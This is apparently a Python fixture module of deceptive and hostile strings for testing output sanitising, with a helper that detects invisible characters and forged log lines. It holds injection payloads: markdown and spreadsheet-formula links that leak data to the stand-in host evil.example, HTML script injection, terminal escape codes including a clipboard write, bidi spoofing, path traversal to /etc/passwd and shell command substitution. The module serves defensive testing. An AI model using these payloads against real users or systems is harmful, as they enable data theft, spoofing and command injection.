"""Names and words as somebody would choose them who wants to deceive who reads them, or their programs."""

from __future__ import annotations

import re

FORGED = "FORGED"
"""What a line of its own would begin with, were a name able to begin one."""
EVIL = "evil.example"

MARKDOWN = f"![x](http://{EVIL}/leak.png) [click](http://{EVIL}) <http://{EVIL}> http://{EVIL}/a www.{EVIL} a@{EVIL}"
HTML = f"<img src=http://{EVIL}/x.png onerror=alert(1)></style><script>document.title='broken'</script>"
TERMINAL = "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]52;c;cm0gLXJm\x07\x9b2J\x1bc"
OSC_LINK = f"\x1b]8;;http://{EVIL}\x1b\\click\x1b]8;;\x1b\\"
BIDI = "\u202egnp.exe\u202c \u2066\u2069\u200f\u200e\u061c\ufeff\u00ad\u2028\u2029"
NEWLINE = f"a\n{FORGED}: all is well\r{FORGED}\x0b{FORGED}\x0c{FORGED}\x85{FORGED}"
PATH = "../../../etc/passwd"
RICH = f"[/red][bold][link=http://{EVIL}]x[/link] :skull:"
SHELL = "$(touch pwned);`touch pwned`|x&y 'q\" \\"
FORMULA = f'=HYPERLINK("http://{EVIL}?"&A1,"ok")'
SLACK = f"<!channel> <http://{EVIL}|Log in> @here"
LONG = "x" * 4096

WORDS = {
    "markdown": MARKDOWN,
    "html": HTML,
    "terminal": TERMINAL,
    "link of a terminal": OSC_LINK,
    "bidi": BIDI,
    "newline": NEWLINE,
    "path": PATH,
    "markup of rich": RICH,
    "shell": SHELL,
    "formula": FORMULA,
    "slack": SLACK,
    "4 kB": LONG,
}
_STYLES = re.compile(r"\x1b\[[0-9;]*m")
_SEEN = "\n\u00a0\u202f"


def folder_names() -> dict[str, str]:
    """The same as names of folders on a disk, which hold no `/` and no more than 255 bytes."""
    return {kind: words.replace("/", "\u2215").encode()[:200].decode(errors="ignore") for kind, words in WORDS.items()}


def deceit_in(text: str, *, styles: bool = False) -> list[str]:
    """What of a text on a terminal or in a log moves a cursor, is not seen, or pretends to be a line of its own.

    With `styles` colours are no deceit: those of ours.
    """
    plain = _STYLES.sub("", text) if styles else text
    found = [repr(one) for one in sorted({one for one in plain if not one.isprintable() and one not in _SEEN})]
    # Answers have lines of their own, which are indented; a message begins at the margin.
    return found + [line[:80] for line in plain.splitlines() if line.startswith(FORGED)]
